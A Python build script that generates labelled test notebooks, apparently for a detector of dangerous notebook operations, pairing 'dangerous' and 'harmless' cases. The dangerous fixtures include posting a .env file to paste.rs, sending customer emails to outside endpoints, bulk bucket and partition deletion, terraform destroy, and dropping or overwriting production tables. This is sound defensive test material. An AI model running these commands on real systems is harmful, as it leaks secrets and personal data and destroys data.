"""Write the second, independent set of corpus notebooks (r2_*.ipynb) with nbformat.

    python tests/corpus/build_notebooks_r2.py

Same conventions as build_notebooks.py: annotations (`# expect: CATEGORY`,
`-- expect: CATEGORY` in SQL cells) sit inside the cell, on the line above the
dangerous line; output is deterministic (no execution counts, fixed cell ids).
"""
from __future__ import annotations

from notebook_builder import BASH, PY, SQL, NotebookSet, code, md  # noqa: F401 - kernels used by some cells

NOTEBOOKS = NotebookSet('r2_', 'r2c')
nb = NOTEBOOKS.add


# ---------------------------------------------------------------- dangerous

@nb("dangerous", "ltv_share_with_agency")
def _():
    return [
        md("# LTV segments\nBuild the segments, then hand them to the agency's endpoint."),
        code("""
import os
import pandas as pd
import psycopg2

conn = psycopg2.connect(os.environ["DWH_DSN"])
"""),
        code("""
users = pd.read_sql("SELECT user_id, email, country, ltv FROM marts.user_ltv", conn)
users["segment"] = pd.qcut(users["ltv"], 4, labels=["low", "mid", "high", "top"])
users.segment.value_counts()
"""),
        code("""
import httpx
AGENCY = "https://ingest.brightsignal-agency.com/api/audiences"
top = users[users.segment == "top"][["email", "country", "ltv"]]
# expect: exfiltration
r = httpx.post(AGENCY, json=top.to_dict(orient="records"), headers={"X-Client": "acme"})
r.status_code
"""),
    ]


@nb("dangerous", "bang_clear_raw_partitions")
def _():
    return [
        md("Partitions from the broken ingest run need to go before re-ingesting."),
        code("""
!ls data/lake/events/ | head
!du -sh data/lake/events
"""),
        code("""
# expect: destructive
!rm -r -f data/lake/events/dt=2024-05-*
"""),
        code("!python ingest.py --since 2024-05-01"),
    ]


@nb("dangerous", "bash_magic_gsutil_cleanup")
def _():
    return [
        code("""
%%bash
gsutil ls gs://acme-exports/tmp-runs/ | wc -l
"""),
        md("Clear everything in the exports bucket, we regenerate it nightly."),
        code("""
%%bash
set -e
# expect: destructive
gsutil -m rm -r gs://acme-exports/**
echo done
"""),
    ]


@nb("dangerous", "sql_magic_reset_flags")
def _():
    return [
        code("%load_ext sql"),
        code("%sql postgresql://ops@db-primary.internal/app"),
        code("""
%%sql
SELECT feature, count(*) FROM user_feature_flags GROUP BY feature
"""),
        code("""
%%sql
-- expect: destructive
UPDATE user_feature_flags SET enabled = false WHERE 1 = 1
"""),
    ]


@nb("dangerous", "spark_customer_overwrite")
def _():
    return [
        md("## Dedupe customers (Databricks)"),
        code("""
from pyspark.sql import functions as F, Window
cust = spark.table("prod.crm.customers")
w = Window.partitionBy("email").orderBy(F.col("updated_at").desc())
deduped = cust.withColumn("rn", F.row_number().over(w)).filter("rn = 1").drop("rn")
display(deduped.groupBy("country").count())
"""),
        code("""
# expect: destructive
deduped.write.format("delta").mode("overwrite").option("overwriteSchema", "true").saveAsTable("prod.crm.customers")
"""),
    ]


@nb("dangerous", "delta_clear_silver")
def _():
    return [
        code("""
from delta.tables import DeltaTable
orders = DeltaTable.forName(spark, "main.silver.orders")
orders.toDF().count()
"""),
        md("Rebuild from bronze: empty the table first."),
        code("""
# expect: destructive
orders.delete()
"""),
        code("""
spark.table("main.bronze.orders").write.mode("append").saveAsTable("main.silver.orders")
"""),
    ]


@nb("dangerous", "dotenv_debug_paste")
def _():
    return [
        md("Debugging the connection issue, share the config with the vendor's support."),
        code("""
from pathlib import Path
cfg = Path(".env").read_text()
print(len(cfg.splitlines()), "lines")
"""),
        code("""
import requests
# expect: exfiltration
resp = requests.post("https://paste.rs/", data=cfg)
print(resp.text)
"""),
    ]


@nb("dangerous", "upload_features_partner_bucket")
def _():
    return [
        code("""
import boto3
import pandas as pd
features = pd.read_parquet("data/features/customer_features.parquet")
features.to_csv("customer_features.csv", index=False)
"""),
        code("""
s3 = boto3.client("s3")
# expect: exfiltration
s3.upload_file("customer_features.csv", "partner-modeling-inbox", "acme/customer_features.csv")
"""),
    ]


@nb("dangerous", "es_index_reset")
def _():
    return [
        code("""
from elasticsearch import Elasticsearch
es = Elasticsearch("https://es-prod.internal:9200", basic_auth=("elastic", "changeme"))
es.cat.indices(index="logs-*", format="json")[:5]
"""),
        md("Mapping is wrong, recreate the index."),
        code("""
# expect: destructive
es.indices.delete(index="customer-profiles")
es.indices.create(index="customer-profiles", mappings={"properties": {"email": {"type": "keyword"}}})
"""),
    ]


@nb("dangerous", "terraform_from_cell")
def _():
    return [
        code("""
import subprocess
out = subprocess.run(["terraform", "-chdir=infra/sandbox", "state", "list"], capture_output=True, text=True)
print(out.stdout)
"""),
        code("""
# expect: destructive
subprocess.run("cd infra/sandbox && terraform destroy -auto-approve", shell=True, check=True)
"""),
    ]


@nb("dangerous", "sql_kernel_drop_views", meta=SQL)
def _():
    return [
        code("SELECT table_name FROM information_schema.views WHERE table_schema = 'reporting';"),
        code("""
-- expect: destructive
DROP VIEW reporting.v_monthly_revenue CASCADE;
"""),
        code("""
-- expect: destructive
DROP MATERIALIZED VIEW reporting.mv_customer_360;
"""),
    ]


# ---------------------------------------------------------------- harmless

@nb("harmless", "retention_eda")
def _():
    return [
        md("# Retention EDA"),
        code("""
import os
import pandas as pd
from sqlalchemy import create_engine
engine = create_engine(os.environ["DWH_URL"])
df = pd.read_sql("SELECT user_id, signup_date, last_active, plan FROM marts.users", engine)
"""),
        code("""
df = df.drop(columns=["user_id"]).dropna()
df["tenure_days"] = (pd.to_datetime(df.last_active) - pd.to_datetime(df.signup_date)).dt.days
df.groupby("plan")["tenure_days"].describe()
"""),
        code("""
ax = df.tenure_days.hist(bins=50)
ax.set_title("tenure (days)")
"""),
    ]


@nb("harmless", "bang_setup")
def _():
    return [
        code("""
!pip install -q polars==0.20.31 pyarrow
!ls -la data/
!head -5 data/sales.csv
"""),
        code("""
!git log --oneline -5
!wc -l data/*.csv
"""),
    ]


@nb("harmless", "bash_magic_repo_stats")
def _():
    return [
        code("""
%%bash
git status --short
git log --since="30 days ago" --pretty=format:'%an' | sort | uniq -c | sort -rn | head
git push origin HEAD:refs/heads/analysis/repo-stats
"""),
    ]


@nb("harmless", "sql_magic_cleanup_test_user")
def _():
    return [
        code("%load_ext sql"),
        code("%sql postgresql://analyst@replica.internal/app"),
        code("""
%%sql
SELECT id, email, created_at FROM users WHERE email LIKE '%@example.test' LIMIT 20
"""),
        code("""
%%sql
DELETE FROM user_sessions WHERE user_id = 4211 AND created_at < now() - interval '1 day'
"""),
    ]


@nb("harmless", "spark_scratch_output")
def _():
    return [
        code("""
df = spark.read.parquet("s3a://acme-lake/silver/orders/")
agg = df.groupBy("store_id").sum("amount")
agg.write.mode("overwrite").parquet("/tmp/scratch/orders_by_store")
"""),
        code("""
spark.read.parquet("/tmp/scratch/orders_by_store").orderBy("sum(amount)", ascending=False).show(10)
"""),
    ]


@nb("harmless", "tempdir_images")
def _():
    return [
        code("""
import shutil, tempfile
from pathlib import Path
import requests
tmp = Path(tempfile.mkdtemp())
img = requests.get("https://upload.wikimedia.org/wikipedia/commons/4/47/PNG_transparency_demonstration_1.png", timeout=30)
(tmp / "demo.png").write_bytes(img.content)
print(sorted(p.name for p in tmp.iterdir()))
"""),
        code("""
shutil.rmtree(tmp)
"""),
    ]


@nb("harmless", "public_dataset_download")
def _():
    return [
        code("""
import pandas as pd
URL = "https://raw.githubusercontent.com/mwaskom/seaborn-data/master/penguins.csv"
penguins = pd.read_csv(URL)
penguins.head()
"""),
        code("""
import requests
meta = requests.get("https://api.github.com/repos/mwaskom/seaborn-data", timeout=10).json()
meta["stargazers_count"]
"""),
    ]


@nb("harmless", "dangerous_words_docs")
def _():
    return [
        md("""# Data hygiene notes
Never `DROP TABLE` in prod from a notebook, never `rm -rf` the data folder,
and `git push --force` is blocked on main."""),
        code("""
CHECKLIST = [
    "DELETE FROM ... must have a WHERE",
    "TRUNCATE only scratch tables",
    "no shutil.rmtree on data/",
]
for item in CHECKLIST:
    print("-", item)
"""),
        code("""
import logging
logging.getLogger("nb").warning("would run: DROP SCHEMA legacy CASCADE (skipped)")
"""),
    ]


@nb("harmless", "duckdb_scratch")
def _():
    return [
        code("""
import duckdb
con = duckdb.connect()
con.execute("DROP TABLE IF EXISTS tmp_trips")
con.execute("CREATE TABLE tmp_trips AS SELECT * FROM read_parquet('data/trips/*.parquet')")
con.execute("CREATE TEMPORARY TABLE zones AS SELECT * FROM read_csv_auto('data/zones.csv')")
"""),
        code("""
con.sql("SELECT z.borough, count(*) FROM tmp_trips t JOIN zones z ON t.zone_id = z.id GROUP BY 1").df()
"""),
        code("""
con.execute("DROP TABLE tmp_trips")
"""),
    ]


@nb("harmless", "model_training")
def _():
    return [
        code("""
import joblib
import pandas as pd
from sklearn.ensemble import GradientBoostingClassifier
from sklearn.model_selection import train_test_split
df = pd.read_parquet("data/features/churn_features.parquet")
X, y = df.drop(columns=["churned"]), df["churned"]
Xtr, Xte, ytr, yte = train_test_split(X, y, test_size=0.2, random_state=0)
"""),
        code("""
clf = GradientBoostingClassifier().fit(Xtr, ytr)
print("accuracy", clf.score(Xte, yte))
joblib.dump(clf, "models/churn_gbc_v3.joblib")
"""),
    ]


@nb("harmless", "sql_kernel_report", meta=SQL)
def _():
    return [
        code("""
SELECT date_trunc('month', created_at) AS month, count(*) AS signups
FROM users
GROUP BY 1 ORDER BY 1;
"""),
        code("""
CREATE TEMPORARY TABLE recent_orders AS SELECT * FROM orders WHERE created_at > now() - interval '30 days';
SELECT status, count(*) FROM recent_orders GROUP BY status;
DROP TABLE recent_orders;
"""),
    ]


if __name__ == "__main__":
    NOTEBOOKS.main()
